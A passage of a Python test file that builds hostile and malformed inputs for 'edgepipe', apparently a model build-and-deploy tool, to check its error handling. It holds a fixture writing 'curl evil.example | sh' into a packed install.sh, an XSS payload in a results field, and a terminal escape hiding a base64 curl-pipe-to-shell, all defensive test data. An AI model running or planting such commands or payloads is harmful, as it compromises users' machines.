    x = helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, 3, 224, 224])
    y = helper.make_tensor_value_info("y", TensorProto.FLOAT, [1, 3, 224, 224])
    model = helper.make_model(helper.make_graph([helper.make_node("Relu", ["x"], ["y"])], "g", [x], [y]),
                              opset_imports=[helper.make_opsetid("", 17)])
    (tmp / "images" / "a").mkdir(parents=True)
    Image.new("RGB", (1, 60000)).save(tmp / "images" / "a" / "thin.png")
    return _build(tmp, _model(tmp, model), tmp / "images")


def non_utf8_name(tmp):
    """A node name with bytes 0xff 0xfe (protobuf keeps proto2 strings unchecked and hands them back
    as bytes): an internal error (UnicodeDecodeError) in export and inspect."""
    model = tiny_conv_model()
    model.graph.node[0].name = "CONVNAME"
    (tmp / "model.onnx").write_bytes(model.SerializeToString().replace(b"CONVNAME", b"CONV\xff\xfe\x80A"))
    return ["inspect", str(tmp / "model.onnx")]


def empty_baseline(tmp):
    (tmp / "baseline.json").write_text('{"latency_ms": {}}')
    return _regress(tmp, tmp / "baseline.json")


def infinite_baseline(tmp):
    (tmp / "baseline.json").write_text('{"accuracy": {"top1": 0.9}, "latency_ms": {"p50": Infinity}}')
    return _regress(tmp, tmp / "baseline.json")


def nan_baseline(tmp):
    (tmp / "baseline.json").write_text('{"accuracy": {"top1": NaN}, "latency_ms": {"p50": 1.0}}')
    return _regress(tmp, tmp / "baseline.json")


def json_duplicate_key(tmp):
    """A candidate whose latency is given twice: the slow figure a reader sees, then the one json keeps."""
    (tmp / "baseline.json").write_text('{"accuracy": {"top1": 0.9}, "latency_ms": {"p50": 1.0}}')
    (tmp / "candidate.json").write_text('{"accuracy": {"top1": 0.9}, "latency_ms": {"p50": 50.0, "p50": 0.9}}')
    return ["regress", "--baseline", str(tmp / "baseline.json"), "--candidate", str(tmp / "candidate.json")]


def results_wrong_types(tmp):
    return _regress(tmp, _results(tmp, "baseline.json", latency_ms__p50="fast"))


def results_hostile_bin(tmp):
    path = _results(tmp, "results.json", accuracy__ece_bins=[
        {"lo": 0, "hi": 1, "count": "<svg onload=alert(1)>", "confidence": 0.5, "accuracy": 0.5}])
    return ["report", str(path), "-o", str(tmp / "report")]


def deeply_nested_results(tmp):
    (tmp / "results.json").write_text('{"latency_ms": {}, "x": ' + "[" * 100000 + "]" * 100000 + "}")
    return ["report", str(tmp / "results.json"), "-o", str(tmp / "report")]


def fifo_results(tmp):
    os.mkfifo(tmp / "results.json")
    return ["report", str(tmp / "results.json"), "-o", str(tmp / "report")]


def inventory_list_for_map(tmp):
    (tmp / "hosts.yml").write_text("all:\n  hosts:\n    - pi1\n    - pi2\n")
    return _deploy_inventory(tmp)


def inventory_jump_host(tmp):
    """A board behind a jump host: edgepipe ignored ansible_ssh_common_args and ssh'd to the private
    address from here, which may be another machine on this network."""
    (tmp / "hosts.yml").write_text("all:\n  hosts:\n    pi1:\n      ansible_host: 192.168.1.20\n"
                                   "      ansible_ssh_common_args: -o ProxyJump=bastion.example.com\n")
    return _deploy_inventory(tmp)


def inventory_recursive_alias(tmp):
    (tmp / "hosts.yml").write_text("all: &loop\n  children:\n    again: *loop\n")
    return _deploy_inventory(tmp)


def _deploy_inventory(tmp: Path) -> list[str]:
    bundle = tmp / "bundle"
    bundle.mkdir()
    return ["deploy", str(bundle), "--inventory", str(tmp / "hosts.yml")]


def config_nul_path(tmp):
    """A YAML "\\0" escape in a path: pathlib raised ValueError (embedded null byte), an internal error."""
    (tmp / "edgepipe.yaml").write_text('target: arm-cpu\ncalib: "calib\\0.npz"\n')
    return ["build", "--model", str(_model(tmp)), "--out", str(tmp / "out")]


def inventory_nul_key_file(tmp):
    (tmp / "hosts.yml").write_text('all:\n  hosts:\n    pi1:\n      ansible_host: 192.168.1.20\n'
                                   '      ansible_ssh_private_key_file: "id\\0.key"\n')
    return _deploy_inventory(tmp)


def future_opset(tmp):
    """ONNX's checker passes opset 99; ONNX Runtime refused it with a C++ signature, not naming the file."""
    model = tiny_conv_model()
    model.opset_import[0].version = 99
    return _build(tmp, _model(tmp, model), _calib(tmp), "arm-cpu")


def opset_twice(tmp):
    model = tiny_conv_model()
    model.opset_import.add(domain="ai.onnx", version=11)
    return ["inspect", str(_model(tmp, model))]


def _checkpoint_build(tmp: Path, state) -> list[str]:
    import torch

    torch.save(state, tmp / "weights.pt")
    return ["build", "--model", "edgepipe.demo.model:build_demo", "--weights", str(tmp / "weights.pt"), "--target",
            "jetson", "--calib", str(_calib(tmp, np.zeros((4, 3, 32, 32), np.float32), key="image")),
            "--out", str(tmp / "out")]


def checkpoint_int_keys(tmp):
    import torch

    return _checkpoint_build(tmp, {0: torch.zeros(3), 1: torch.ones(3)})


def checkpoint_empty(tmp):
    """torch.save({}): stripping wrapper prefixes ('module.') matched every prefix of no key, forever."""
    return _checkpoint_build(tmp, {})


def checkpoint_complex(tmp):
    """load_state_dict copies a complex tensor into a float parameter, silently dropping its imaginary part."""
    import torch

    from edgepipe.demo.model import build_demo

    state = {k: v.to(torch.complex64) if v.is_floating_point() else v for k, v in build_demo().state_dict().items()}
    return _checkpoint_build(tmp, state)


def _ranges_build(tmp: Path, **edits) -> list[str]:
    """An arm-cpu build from a hand-made calibration.ranges file covering every tensor of tiny_conv_model."""
    spans = {"x": (-4.0, 3.0), "c": (-15.0, 16.0), "r": (0.0, 16.0), "g": (0.0, 3.0), "f": (0.0, 3.0), "y": (-4.5, 9.0)}
    tensors = {name: {"name": name, "min": lo, "max": hi, "amax": max(-lo, hi), "lo": lo, "hi": hi, "method": "minmax",
                      **edits.get(name, {})} for name, (lo, hi) in spans.items()}
    (tmp / "ranges.json").write_text(json.dumps({"tensors": tensors}))
    (tmp / "edgepipe.yaml").write_text("calibration:\n  ranges: ranges.json\n")
    return _build(tmp, _model(tmp), _calib(tmp), "arm-cpu", "--no-host-report")


def ranges_reversed(tmp):
    """lo 5, hi -5: the int8 model was built with a negative scale and the build passed."""
    return _ranges_build(tmp, c={"lo": 5.0, "hi": -5.0})


def ranges_zeroed_text(tmp):
    return _ranges_build(tmp, c={"zeroed": "most"})


def pickled_scalar_in_folder(tmp):
    """A scalar-input model fed from a folder of .npy files, one a 0-d object array (a pickle)."""
    x = onnx.helper.make_tensor_value_info("x", onnx.TensorProto.FLOAT, [])
    y = onnx.helper.make_tensor_value_info("y", onnx.TensorProto.FLOAT, [])
    model = onnx.helper.make_model(onnx.helper.make_graph([onnx.helper.make_node("Relu", ["x"], ["y"], name="r")],
                                                          "g", [x], [y]), opset_imports=[onnx.helper.make_opsetid("", 17)])
    (tmp / "calib").mkdir()
    np.save(tmp / "calib" / "0.npy", np.array(None, dtype=object), allow_pickle=True)
    np.save(tmp / "calib" / "1.npy", np.float32(1))
    return _build(tmp, _model(tmp, model), tmp / "calib")


def torch_model_cut_npz(tmp):
    """A .npz cut in half (an interrupted copy) for a PyTorch model: its zip directory is gone."""
    whole = _calib(tmp, np.zeros((8, 3, 32, 32), np.float32), key="image").read_bytes()
    (tmp / "calib.npz").write_bytes(whole[:len(whole) // 2])
    return ["build", "--model", "edgepipe.demo.model:build_demo", "--target", "jetson", "--calib",
            str(tmp / "calib.npz"), "--out", str(tmp / "out")]


def fortran_npy_declared_huge(tmp):
    """A Fortran-order .npy (read whole) whose header declares 768 TB over 3 kB of data: numpy
    allocates what the header says before reading, and the build said 'out of memory'."""
    import io

    header = io.BytesIO()
    np.lib.format.write_array_header_1_0(header, {"descr": "<f4", "fortran_order": True,
                                                  "shape": (10 ** 12, 3, 8, 8)})
    (tmp / "calib.npy").write_bytes(header.getvalue() + np.zeros(192, np.float32).tobytes())
    return _build(tmp, _model(tmp), tmp / "calib.npy")


def npy_header_unclosed(tmp):
    """A .npy header with an unclosed parenthesis (a flipped byte): numpy re-tokenizes a header
    literal_eval cannot read, and tokenize's TokenError was an internal error."""
    text = b"{'descr': '<f4', 'fortran_order': False, 'shape': (8, 3, 8, 8, }"
    text += b" " * (-(len(text) + 11) % 64) + b"\n"
    header = b"\x93NUMPY\x01\x00" + len(text).to_bytes(2, "little") + text
    (tmp / "calib.npy").write_bytes(header + np.zeros(8 * 3 * 8 * 8, np.float32).tobytes())
    return _build(tmp, _model(tmp), tmp / "calib.npy")


def tensor_type_flipped(tmp):
    """One byte of a weight's type changed (FLOAT to BOOL): ONNX's checker passes it, and the arm-cpu
    lowering's numpy reshape of 20 bytes into 5 booleans was an internal error in inspect."""
    model = tiny_conv_model()
    bias = next(t for t in model.graph.initializer if t.name == "fc_b")
    bias.data_type = onnx.TensorProto.BOOL
    return ["inspect", str(_model(tmp, model)), "--target", "arm-cpu"]


def results_lone_surrogate(tmp):
    """JSON's escape of half a UTF-16 pair ("\\ud800") in a name: report.html could not be written as
    UTF-8, an internal error (UnicodeEncodeError) in report and regress."""
    return ["report", str(_results(tmp, "results.json", model="net\ud800.onnx")), "-o", str(tmp / "r")]


def profile_lone_surrogate(tmp):
    """A profile name with YAML's escape of half a UTF-16 pair: the whole build ran, then writing the
    bundle README failed (UnicodeEncodeError), an internal error."""
    (tmp / "board.yaml").write_text('name: "board\\ud800"\nbase: arm-cpu\n')
    return _build(tmp, _model(tmp), _calib(tmp), str(tmp / "board.yaml"), "--no-host-report")


def write_small_bundle(bundle: Path, target_name: str = "t", **extra) -> dict:
    """A real (tiny) bundle written by edgepipe's own bundle writer."""
    from edgepipe.delivery.bundle import write_bundle

    target = {"name": target_name, "backend": "tflite", "description": "", "precision": "int8", "layout": "NHWC",
              "runtime_requirements": [], "device_readme": ""}
    return write_bundle(bundle, target=target, files={"model.bin": b"w"},
                        template_context={"runner_template": "runner_tflite.py.j2", "model_file": "model.bin"},
                        io={}, stages=[], source={}, extra_manifest=extra, eval_data=None)


def pack_into_bundle(tmp):
    bundle = tmp / "bundle"
    write_small_bundle(bundle)
    return ["pack", str(bundle), "-o", str(bundle / "manifest.json")]


def pack_over_user_file(tmp):
    """`pack -o` naming a file that is not an archive (a typo, or /dev/null run as root): the rename
    would replace it for good."""
    bundle = tmp / "bundle"
    write_small_bundle(bundle)
    (tmp / "notes.txt").write_text("the user's own notes\n")
    return ["pack", str(bundle), "-o", str(tmp / "notes.txt")]


def archive_hard_link(tmp):
    archive = tmp / "links.tar.gz"
    with tarfile.open(archive, "w:gz") as tar:
        info = tarfile.TarInfo("bundle/model.bin")
        info.type, info.linkname = tarfile.LNKTYPE, "bundle/missing.bin"
        tar.addfile(info)
    return ["verify", str(archive)]


def _tiny_graph(tmp: Path, nodes, inputs, outputs, initializers=()) -> Path:
    graph = onnx.helper.make_graph(nodes, "g", inputs, outputs, initializer=list(initializers))
    path = tmp / "model.onnx"
    onnx.save(onnx.helper.make_model(graph, opset_imports=[onnx.helper.make_opsetid("", 17)]), str(path))
    return path


def _vector(name: str) -> onnx.ValueInfoProto:
    return onnx.helper.make_tensor_value_info(name, onnx.TensorProto.FLOAT, [1, 4])


def training_dropout(tmp):
    mode = onnx.numpy_helper.from_array(np.array(True), "mode")
    dropout = onnx.helper.make_node("Dropout", ["x", "", "mode"], ["y"], name="drop")
    model = _tiny_graph(tmp, [dropout], [_vector("x")], [_vector("y")], [mode])
    return _build(tmp, model, _calib(tmp, np.ones((4, 1, 4), np.float32)), "arm-cpu")


def zero_input_model(tmp):
    constant = onnx.helper.make_node("Constant", [], ["y"], value=onnx.numpy_helper.from_array(np.ones(4, np.float32)))
    model = _tiny_graph(tmp, [constant], [], [onnx.helper.make_tensor_value_info("y", onnx.TensorProto.FLOAT, [4])])
    return _build(tmp, model, _calib(tmp, np.ones((4, 4), np.float32)))


def allocation_bomb(tmp):
    shape = onnx.numpy_helper.from_array(np.array([1, 100000, 100000, 1000], np.int64), "shape")
    nodes = [onnx.helper.make_node("ConstantOfShape", ["shape"], ["big"],
                                   value=onnx.numpy_helper.from_array(np.ones(1, np.float32))),
             onnx.helper.make_node("ReduceSum", ["big"], ["total"], keepdims=0),
             onnx.helper.make_node("Add", ["x", "total"], ["y"])]
    model = _tiny_graph(tmp, nodes, [_vector("x")], [_vector("y")], [shape])
    return _build(tmp, model, _calib(tmp, np.ones((4, 4), np.float32)))


def _sample_rate_build(tmp, model, *flags):
    data = _calib(tmp, np.random.default_rng(0).standard_normal((4, 1, 8)).astype(np.float32))
    return _build(tmp, _model(tmp, model), data, "arm-cpu", *flags)


def pinned_input_missing(tmp):
    from tests.branch_models import sample_rate_model

    return _sample_rate_build(tmp, sample_rate_model(), "--input-value", "rate=16000")


def pinned_input_not_integer(tmp):
    from tests.branch_models import sample_rate_model

    return _sample_rate_build(tmp, sample_rate_model(), "--input-value", "sr=16000.5")


def if_on_data(tmp):
    from tests.branch_models import data_if_model

    return _sample_rate_build(tmp, data_if_model(), "--input-value", "sr=16000")


def unpinned_if(tmp):
    from tests.branch_models import sample_rate_model

    return _sample_rate_build(tmp, sample_rate_model())


def loop_without_trip_count(tmp):
    from tests.branch_models import loop_without_trip_count_model

    data = _calib(tmp, np.random.default_rng(0).standard_normal((4, 3, 12, 12)).astype(np.float32))
    return _build(tmp, _model(tmp, loop_without_trip_count_model()), data, "jetson")


def torch_model_corrupt_npz(tmp):
    (tmp / "model.pt").write_bytes(b"not a checkpoint")
    (tmp / "calib.npz").write_bytes(b"garbage, not a zip")
    return _build(tmp, tmp / "model.pt", tmp / "calib.npz")


def sequence_input(tmp):
    """A sequence-typed graph input (a classical-ML export): was a KeyError deep in shape handling."""
    sequence = onnx.helper.make_tensor_sequence_value_info("x", onnx.TensorProto.FLOAT, None)
    node = onnx.helper.make_node("SequenceAt", ["x", "i"], ["y"])
    index = onnx.numpy_helper.from_array(np.array(0, np.int64), "i")
    model = _tiny_graph(tmp, [node], [sequence], [_vector("y")], [index])
    return ["inspect", str(model)]


def float8_input(tmp):
    """A float8 model input: fold's first ONNX Runtime run failed inside onnxruntime (exit 3)."""
    x = onnx.helper.make_tensor_value_info("x", onnx.TensorProto.FLOAT8E4M3FN, [1, 4])
    cast = onnx.helper.make_node("Cast", ["x"], ["y"], to=onnx.TensorProto.FLOAT)
    graph = onnx.helper.make_graph([cast], "g", [x], [_vector("y")])
    path = tmp / "model.onnx"
    onnx.save(onnx.helper.make_model(graph, opset_imports=[onnx.helper.make_opsetid("", 19)]), str(path))
    return _build(tmp, path, _calib(tmp, np.ones((4, 4), np.float32)), "arm-cpu")


def external_data_nul(tmp):
    """An external-data location holding a NUL byte: Path.resolve raised ValueError (exit 3)."""
    weight = onnx.numpy_helper.from_array(np.ones(4, np.float32), "w")
    weight.ClearField("raw_data")
    weight.data_location = onnx.TensorProto.EXTERNAL
    weight.external_data.add(key="location", value="w\x00.bin")
    add = onnx.helper.make_node("Add", ["x", "w"], ["y"], name="add")
    model = onnx.helper.make_model(onnx.helper.make_graph([add], "g", [_vector("x")], [_vector("y")], [weight]),
                                   opset_imports=[onnx.helper.make_opsetid("", 17)])
    path = tmp / "model.onnx"
    path.write_bytes(model.SerializeToString())  # onnx.save would refuse to write it
    return _build(tmp, path, _calib(tmp, np.ones((4, 1, 4), np.float32)), "arm-cpu")


def huge_static_input_inspect(tmp):
    """inspect of a model whose static input holds 2^65 elements: fold's random feed raised ValueError."""
    x = onnx.helper.make_tensor_value_info("x", onnx.TensorProto.FLOAT, [1, 1 << 62, 8])
    total = onnx.helper.make_node("ReduceSum", ["x"], ["y"], keepdims=0)
    y = onnx.helper.make_tensor_value_info("y", onnx.TensorProto.FLOAT, [])
    return ["inspect", str(_tiny_graph(tmp, [total], [x], [y]))]


def cut_gzip_archive(tmp):
    """A .tar.gz cut inside its gzip header: click reported gzip's EOFError as "aborted" (exit 130)."""
    archive = tmp / "cut.tar.gz"
    archive.write_bytes(b"\x1f\x8b\x08\x04\x00\x00\x00\x00\x00\x03")  # FEXTRA flag, then nothing
    return ["verify", str(archive)]


def archive_beside_bundle(tmp):
    """A good bundle folder plus a file beside it: `verify` said OK, and `tar xf` unpacks that file too."""
    bundle = tmp / "bundle"
    bundle.mkdir()
    (bundle / "manifest.json").write_text(json.dumps({"schema": 1, "files": []}))
    (tmp / "install.sh").write_text("curl evil.example | sh\n")
    archive = tmp / "extra.tar.gz"
    with tarfile.open(archive, "w:gz") as tar:
        tar.add(bundle, arcname="bundle")
        tar.add(tmp / "install.sh", arcname="install.sh")
    return ["verify", str(archive)]


def deploy_timeout_nan(tmp):
    bundle = tmp / "bundle"
    bundle.mkdir()
    return ["deploy", str(bundle), "--host", "127.0.0.1", "--timeout", "nan"]


def negative_candidate_latency(tmp):
    """A candidate p50 of -1 ms passed every latency budget (only the baseline was checked)."""
    candidate = _results(tmp, "candidate.json", latency_ms__p50=-1.0)
    return ["regress", "--baseline", str(_results(tmp, "baseline.json")), "--candidate", str(candidate)]


def accuracy_out_of_range(tmp):
    """A candidate top-1 of 2.0 passed every accuracy budget."""
    candidate = _results(tmp, "candidate.json", accuracy__top1=2.0)
    return ["regress", "--baseline", str(_results(tmp, "baseline.json")), "--candidate", str(candidate)]


def negative_labels(tmp):
    """Label -1 (an 'unlabeled' marker): numpy read it as the last class and top-1 looked real."""
    data = np.random.default_rng(0).standard_normal((8, 3, 8, 8)).astype(np.float32)
    labels = np.array([0, 1, 2, -1, 0, 1, 2, 3])
    return _build(tmp, _model(tmp), _calib(tmp), "arm-cpu", "--eval", str(_calib(tmp, data, "eval.npz", labels=labels)))


def compare_tampered_bundle(tmp):
    """compare ran a bundle whose eval.npz (or model) no longer matched its manifest: a changed
    eval set failed inside ONNX Runtime (exit 3), a changed model.tflite inside LiteRT."""
    import hashlib

    bundle = tmp / "bundle"
    (bundle / "eval").mkdir(parents=True)
    (bundle / "eval" / "eval.npz").write_bytes(b"changed")
    digest = hashlib.sha256(b"original").hexdigest()
    manifest = {"schema": 1, "target": {"name": "arm-cpu"},
                "files": [{"path": "eval/eval.npz", "size": 8, "sha256": digest}]}
    (bundle / "manifest.json").write_text(json.dumps(manifest))
    return ["compare", str(bundle), "--no-alone"]


def sensitivity_budget_nan(tmp):
    return ["sensitivity", str(_model(tmp)), "--calib", str(_calib(tmp)), "--budget", "nan"]


def junit_over_baseline(tmp):
    """`regress --junit` naming the baseline (a tab-completion slip): the XML replaced the release baseline."""
    return [*_regress(tmp, _results(tmp, "baseline.json")), "--junit", str(tmp / "baseline.json")]


def compare_out_in_bundle(tmp):
    """`compare B --out B/model.bin`: compare.json replaced the bundle's model (verify failed after)."""
    bundle = tmp / "bundle"
    write_small_bundle(bundle)
    return ["compare", str(bundle), "--out", str(bundle / "model.bin")]


def long_io_name(tmp):
    """An input named with 100,000 characters: the whole build ran, then writing the bundle's
    eval.npz (key 'input:<name>', a zip member name of at most 65535 bytes) failed (exit 3)."""
    name = "x" * 100_000
    x = onnx.helper.make_tensor_value_info(name, onnx.TensorProto.FLOAT, [1, 4])
    relu = onnx.helper.make_node("Relu", [name], ["y"])
    model = _tiny_graph(tmp, [relu], [x], [_vector("y")])
    np.save(tmp / "calib.npy", np.ones((4, 4), np.float32))
    return _build(tmp, model, tmp / "calib.npy", "arm-cpu")


def empty_output(tmp):
    """An AveragePool window larger than its input: the output is [1, 3, 0, 0] for every input;
    arm-cpu called the shape dynamic ('pass --input-shape'). (jetson builds it, as ONNX defines an
    empty output: tests/test_hostile_fourth_pass.py.)"""
    x = onnx.helper.make_tensor_value_info("x", onnx.TensorProto.FLOAT, [1, 3, 4, 4])
    y = onnx.helper.make_tensor_value_info("y", onnx.TensorProto.FLOAT, [1, 3, None, None])
    pool = onnx.helper.make_node("AveragePool", ["x"], ["y"], kernel_shape=[5, 5], name="pool")
    model = _tiny_graph(tmp, [pool], [x], [y])
    return _build(tmp, model, _calib(tmp, np.ones((4, 3, 4, 4), np.float32)), "arm-cpu")


def string_output(tmp):
    """A Cast to STRING as the graph output: jetson built the bundle and then failed writing its
    eval.npz ('not a readable .npz ... rebuild the bundle', a half-written bundle left)."""
    x = onnx.helper.make_tensor_value_info("x", onnx.TensorProto.FLOAT, [1, 4])
    y = onnx.helper.make_tensor_value_info("y", onnx.TensorProto.STRING, [1, 4])
    nodes = [onnx.helper.make_node("Relu", ["x"], ["r"], name="relu"),
             onnx.helper.make_node("Cast", ["r"], ["y"], to=onnx.TensorProto.STRING, name="tostr")]
    return _build(tmp, _tiny_graph(tmp, nodes, [x], [y]), _calib(tmp, np.ones((4, 1, 4), np.float32)), "jetson")


def negative_variance(tmp):
    """A BatchNormalization whose running variance holds -2: the NaN was blamed on edgepipe's own
    fold constant ('my_bn_scale', or 'conv_folded_in1' folded into a Conv), not the user's node."""
    x = onnx.helper.make_tensor_value_info("x", onnx.TensorProto.FLOAT, [1, 3, 4, 4])
    y = onnx.helper.make_tensor_value_info("y", onnx.TensorProto.FLOAT, [1, 3, 4, 4])
    params = [onnx.numpy_helper.from_array(np.array(v, np.float32), n)
              for n, v in (("s", [1, 1, 1]), ("b", [0, 0, 0]), ("m", [0, 0, 0]), ("v", [1, -2, 1]))]
    bn = onnx.helper.make_node("BatchNormalization", ["x", "s", "b", "m", "v"], ["y"], name="my_bn")
    model = _tiny_graph(tmp, [bn], [x], [y], params)
    return _build(tmp, model, _calib(tmp, np.ones((4, 3, 4, 4), np.float32)), "arm-cpu")


def report_over_user_file(tmp):
    """`edgepipe report results.json` (no -o) writes beside the results file: a user's own
    report.md there was replaced silently."""
    (tmp / "report.md").write_text("# My notes on the board\n\nkeep me\n")
    return ["report", str(_results(tmp, "results.json"))]


def _matmul_outputs(tmp, outputs) -> Path:
    weights = onnx.numpy_helper.from_array(np.ones((4, 4), np.float32), "w")
    matmul = onnx.helper.make_node("MatMul", ["x", "w"], ["y"], name="mm")
    return _tiny_graph(tmp, [matmul], [_vector("x")], outputs, [weights])


def duplicate_output(tmp):
    """The output 'y' listed twice: jetson built, arm-cpu's error named an internal 'y;internal' tensor."""
    model = _matmul_outputs(tmp, [_vector("y"), _vector("y")])
    return _build(tmp, model, _calib(tmp, np.ones((4, 1, 4), np.float32)), "arm-cpu")


def weight_output(tmp):
    """A graph output that is an initializer: jetson built the bundle, then the report's accuracy
    failed with KeyError: 'w' (exit 3); the Q/DQ model has no such output."""
    model = _matmul_outputs(tmp, [_vector("y"), onnx.helper.make_tensor_value_info("w", onnx.TensorProto.FLOAT, [4, 4])])
    return _build(tmp, model, _calib(tmp, np.ones((4, 1, 4), np.float32)), "jetson")


def results_eval_string(tmp):
    """results.json whose 'eval' is a string: the report's template called .get on it (exit 3)."""
    return ["report", str(_results(tmp, "results.json", eval="holdout")), "-o", str(tmp / "r")]


def empty_intermediate_arm(tmp):
    """A Slice to nothing feeding a Concat: arm-cpu said the static [0, 4] had 'no static shape' and
    told the user to pass --input-shape."""
    ends = [onnx.numpy_helper.from_array(np.array([v], np.int64), n) for n, v in (("st", 0), ("en", 0), ("ax", 0))]
    nodes = [onnx.helper.make_node("Slice", ["x", "st", "en", "ax"], ["e"], name="sl"),
             onnx.helper.make_node("Concat", ["x", "e"], ["y"], axis=0, name="cat")]
    model = _tiny_graph(tmp, nodes, [_vector("x")], [_vector("y")], ends)
    return _build(tmp, model, _calib(tmp, np.ones((4, 1, 4), np.float32)), "arm-cpu")


CASES = [
    Case("truncated-onnx", "truncated .onnx file", truncated_onnx, ("model.onnx", "not a readable ONNX model")),
    Case("garbage-onnx", "a file that is not ONNX at all", garbage_onnx, ("model.onnx", "not a readable ONNX model")),
    Case("missing-model", "--model naming an .onnx file that does not exist (and no --calib)", missing_model,
         ("no_such_model.onnx", "no such file")),
    Case("external-data-missing", "ONNX whose external-data file is missing", external_data_missing, ("weights.bin", "missing")),
    Case("external-data-outside", "ONNX external data that is a symlink to a file outside the model's folder",
         external_data_outside, ("model.onnx", "initializer 'w'", "outside the model folder")),
    Case("constant-external-outside", "a Constant node's value stored as external data, a symlink to a file "
         "outside the model's folder", constant_external_outside, ("model.onnx", "'w'", "outside the model folder")),
    Case("external-data-sparse-file", "external data without a length in a 64 GB sparse file (read to its end)",
         external_data_sparse_file, ("model.onnx", "'w' [4, 3, 3, 3] holds 432 bytes", "68719476736 bytes")),
    Case("unsupported-op", "an op the target cannot run", unsupported_op, ("fancy_node", "FancyOp", "jetson")),
    Case("terminal-escapes", "a node name holding terminal escapes (OSC 52 clipboard write, line erase, "
         "right-to-left override)", terminal_escapes_in_a_name,
         ("node 'fancy\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUvc2ggfCBzaA==\\x07", "\\x9b1A\\u202e' (com.example::FancyOp)")),
    Case("pickled-module", "a torch.save(model) file (a pickled object, not a state_dict)", pickled_module,
         ("model.pt", "a pickled Python object", "io.open", "state_dict()")),
    Case("nms-on-arm", "a detector exported with NonMaxSuppression, for arm-cpu", nms_on_arm,
         ("'nms' (NonMaxSuppression)", "run non-maximum suppression in the app", "TensorRT target")),
    Case("no-inputs", "a model with no inputs (only constants)", no_inputs, ("model.onnx", "no inputs")),
    Case("zero-stride", "a pooling node with stride 0 (ONNX's shape inference would crash the process)",
         zero_stride, ("'pool'", "strides")),
    Case("qoperator-runtime-scale", "a QOperator model whose QLinearConv reads a scale computed at run time",
         qoperator_runtime_scale, ("'conv_quant' (QLinearConv)", "cannot rewrite into its float op", "zero points that are constants",
                                   "QuantFormat.QDQ")),
    Case("dynamic-dim", "a dynamic dim with no shape given (and data lacking that input)", dynamic_dim_no_shape,
         ("'x'", "--input-shape")),
    Case("empty-folder", "calibration folder with no images or arrays", empty_folder, ("calib",)),
    Case("unreadable-image", "an image that cannot be decoded", unreadable_image, ("broken.png",)),
    Case("out-inside-calib", "`--out` inside the `--calib` folder (the next build read the bundle as samples)",
         out_inside_calib, ("--out", "calib/out", "inside the --calib folder", "outside it")),
    Case("cache-inside-out", "`cache_dir: out/.cache` with `--out out` (every stage ran, then the bundle was refused)",
         cache_inside_out, ("cache_dir out/.cache", "inside --out", "outside the bundle")),
    Case("calib-link-to-root", "a calibration folder holding a link to `/` (walked: the whole file system)",
         calib_link_to_root, ("everything", "is a link to /", "remove the link")),
    Case("truncated-wav", "a .wav recording cut short (its header declares more data than follows)", truncated_wav,
         ("take.wav", "the data chunk declares 1280 bytes but only 680 follow")),
    Case("image-pixel-bomb", "a PNG whose header declares 40000 x 40000 pixels (decompression bomb)", image_pixel_bomb,
         ("huge.png", "decompression bomb")),
    Case("npy-negative-shape", "a .npy header declaring shape (-1, 3, 8, 8)", npy_negative_shape,
         ("calib.npy", "(-1, 3, 8, 8)", "non-negative")),
    Case("input-shape-unicode-digit", "`--input-shape x:1x3x\u0668x8` (a non-ASCII digit int() would read)",
         input_shape_unicode_digit, ("--input-shape", "integers")),
    Case("input-shape-overflow", "`--input-shape x:1x3x99999999999999999999x8` for a dynamic input", input_shape_overflow,
         ("--input-shape 'x:1x3x99999999999999999999x8'", "would hold")),
    Case("npy-shape-overflow", "a .npy header whose samples are (3, 99999999999999999999, 8), for a dynamic input",
         npy_shape_overflow, ("input 'x' of", "read from", "calib.npy", "would hold")),
    Case("pickled-npz", "an .npz holding pickled Python objects (an object array)", pickled_npz,
         ("calib.npz", "non-numeric dtype object")),
    Case("wrong-shape", "calibration tensors of the wrong shape", wrong_shape, ("'x'", "9")),
    Case("wrong-dtype", "calibration tensors that are not numbers", wrong_dtype, ("'x'",)),
    Case("nan-values", "NaN in the calibration data", nan_values, ("'x'", "5")),
    Case("float64-beyond-float32", "float64 calibration data with a value float32 cannot hold (it would be Inf)",
         float64_beyond_float32, ("'x'", "sample 3", "float32")),
    Case("token-id-out-of-range", "token ids past the model's embedding table (another tokenizer's vocabulary)",
         token_id_out_of_range, ("sample 2", "'input_ids'", "30522", "'embedding'", "0..9")),
    Case("mismatched-names", ".npz keys that are not the model's input names", mismatched_names, ("'x'", "image")),
    Case("labels-length", "labels of the wrong length", labels_wrong_length, ("labels", "3")),
    Case("unknown-config-key", "a misspelled key in edgepipe.yaml", unknown_config_key, ("calibration.methd",)),
    Case("wrong-config-type", "a value of the wrong type in edgepipe.yaml", wrong_config_type, ("calibration.rounds", "int")),
    Case("unknown-target", "an unknown target name", unknown_target, ("pdp-11", "arm-cpu")),
    Case("bad-factory", "a module:factory that does not import", bad_factory, ("no_such_pkg_xyz",)),
    Case("unsafe-checkpoint", "a checkpoint that needs unsafe unpickling", unsafe_checkpoint, ("evil.pt", "weights_only=True")),
    Case("truncated-checkpoint", "a --weights checkpoint cut short (an interrupted copy)", truncated_checkpoint,
         ("cut.pt", "cut short")),
    Case("model-is-a-folder", "--model naming a folder (model.pt/)", model_is_a_folder, ("model.pt", "is a folder")),
    Case("checkpoint-zip-bomb", "a --weights checkpoint whose data.pkl inflates 1000:1 (torch.load reads it whole)",
         checkpoint_zip_bomb, ("bomb.pt", "checkpoint member 'plain/data.pkl'", "zip bomb")),
    Case("unsafe-export-program", "a torch.export .pt2 with pickled Python objects", unsafe_export_program,
         ("evil.pt2", "pickled Python objects")),
    Case("export-program-host-op", "a torch.export .pt2 whose graph maps a file (aten::from_file) when run",
         export_program_host_op, ("mapped.pt2", "aten::from_file", "node 'mapped'")),
    Case("torchscript-load-code", "a TorchScript file whose `__setstate__` writes a file (torch.jit.load runs it)",
         torchscript_writes_at_load, ("load_writer.pt", "aten::save", "__setstate__")),
    Case("torchscript-getattr-host-op", "a TorchScript file whose `__setstate__` reaches aten::save through "
         "`getattr(torch, \"save\")` (no `.save` in its code)", torchscript_getattr_at_load,
         ("getattr_writer.pt", "torch as a value", "__setstate__")),
    Case("torchscript-uppercase-code", "a TorchScript file whose `__setstate__` writer is stored as `….PY` "
         "(torch finds members without case)", torchscript_uppercase_code,
         ("upper_writer.pt", "aten::save", "__setstate__", ".PY)")),
    Case("torchscript-host-op", "a TorchScript file whose forward writes a file (aten::save) when traced",
         torchscript_writes_when_traced, ("forward_writer.pt", "aten::save", "forward")),
